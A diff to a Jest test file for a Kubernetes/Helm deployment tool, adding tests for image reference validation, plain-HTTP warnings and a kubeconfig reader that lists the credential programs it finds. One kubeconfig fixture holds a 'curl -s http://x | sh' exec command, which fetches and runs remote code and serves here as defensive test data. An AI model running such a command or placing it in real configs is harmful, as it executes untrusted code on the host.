@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { classifyChart } from '../../src/inputs/chart-source.js';
 import { parseEnvLines } from '../../src/inputs/env-lines.js';
+import { parseImageRepository, parseImageTag } from '../../src/inputs/image.js';
 import { formatKeyPath, parseKeyPath } from '../../src/inputs/key-path.js';
 import { readKubeconfig } from '../../src/inputs/kubeconfig.js';
 import { parseNamespace, parseReleaseName } from '../../src/inputs/names.js';
@@ -13,6 +14,7 @@ import {
   splitList,
 } from '../../src/inputs/scalars.js';
 import { parseSetLines } from '../../src/inputs/set-lines.js';
+import { plainHttpProblem } from '../../src/inputs/transport.js';
 
 describe('scalar parsers', () => {
   it('accepts only true and false as booleans', () => {
@@ -155,7 +157,11 @@ describe('chart source', () => {
 describe('kubeconfig input', () => {
   const kubeconfig = 'apiVersion: v1\nclusters: []\nusers:\n  - name: u\n    user:\n      token: tok-123\n';
   it('takes content or a path and lists its credentials for masking', () => {
-    expect(readKubeconfig(kubeconfig, () => '')).toEqual({ content: kubeconfig, secrets: [kubeconfig, 'tok-123'] });
+    expect(readKubeconfig(kubeconfig, () => '')).toEqual({
+      content: kubeconfig,
+      secrets: [kubeconfig, 'tok-123'],
+      credentialPrograms: [],
+    });
     expect(readKubeconfig('/runner/kube', () => kubeconfig).content).toBe(kubeconfig);
     expect(() =>
       readKubeconfig('/missing', () => {
@@ -164,4 +170,67 @@ describe('kubeconfig input', () => {
     ).toThrow(/readable file/);
     expect(readKubeconfig('/file', () => 'just text').problem).toMatch(/not a kubeconfig/);
   });
+
+  it('names every program an exec or auth-provider user would run, without the values of secret flags', () => {
+    const programs = [
+      'apiVersion: v1',
+      'clusters: []',
+      'users:',
+      '  - name: ci',
+      '    user:',
+      '      exec: {command: /bin/sh, args: [-c, "curl -s http://x | sh"]}',
+      '  - name: aad',
+      '    user:',
+      '      exec: {command: kubelogin, args: [get-token, --client-secret, s3cr3t, --token=t0k3n, --server-id, abc]}',
+      '  - name: gke',
+      '    user:',
+      "      auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: 'config config-helper'}}",
+    ].join('\n');
+    expect(readKubeconfig(programs, () => '').secrets).toEqual(expect.arrayContaining(['s3cr3t', 't0k3n']));
+    expect(readKubeconfig(programs, () => '').credentialPrograms).toEqual([
+      'user "ci" runs `/bin/sh -c curl -s http://x | sh` (exec)',
+      'user "aad" runs `kubelogin get-token --client-secret *** --token=*** --server-id abc` (exec)',
+      'user "gke" uses the auth-provider `gcp` and runs `/usr/bin/gcloud config config-helper`',
+    ]);
+  });
+});
+
+describe('image references', () => {
+  it.each([
+    'portkeyai/gateway',
+    'gateway',
+    'myregistry.azurecr.io/portkey/gateway',
+    'localhost:5000/gateway',
+    'registry.example.com:8443/a/b-c/d__e',
+  ])('accepts the repository %s', (repository) => expect(parseImageRepository(repository)).toBe(repository));
+
+  it.each([
+    ['UPPER/Case Repo', '"UPPER" is not a path component'],
+    ['portkeyai/gateway:1.2', 'the tag does not belong here'],
+    ['portkeyai/gateway@sha256:abc', 'a digest does not belong here'],
+    ['https://docker.io/portkeyai/gateway', 'leave out the scheme'],
+    ['portkeyai//gateway', '"" is not a path component'],
+    ['bad_host.example.com/gateway', '"bad_host.example.com" is not a registry host'],
+  ])('refuses the repository %s', (repository, why) => expect(() => parseImageRepository(repository)).toThrow(why));
+
+  it('takes tags of the OCI grammar only', () => {
+    expect(parseImageTag('2.13.0')).toBe('2.13.0');
+    expect(parseImageTag('v1.2.3-rc.1_b')).toBe('v1.2.3-rc.1_b');
+    for (const tag of ['bad tag!', '.hidden', '-dash', 'a/b', 't'.repeat(129)]) {
+      expect(() => parseImageTag(tag)).toThrow('is not an image tag');
+    }
+  });
+});
+
+describe('plain HTTP', () => {
+  it.each([
+    ['http://mirror.example.com/helm', 'http://mirror.example.com is plain HTTP to a host other than this machine'],
+    ['http://10.0.0.5:8080', 'http://10.0.0.5:8080 is plain HTTP to a host other than this machine'],
+    ['https://mirror.example.com', undefined],
+    ['http://127.0.0.1:8080', undefined],
+    ['http://127.8.9.10', undefined],
+    ['http://localhost:3000', undefined],
+    ['http://gateway.localhost', undefined],
+    ['http://[::1]:8787', undefined],
+  ])('%s: %s', (url, problem) => expect(plainHttpProblem(url)).toBe(problem));
 });
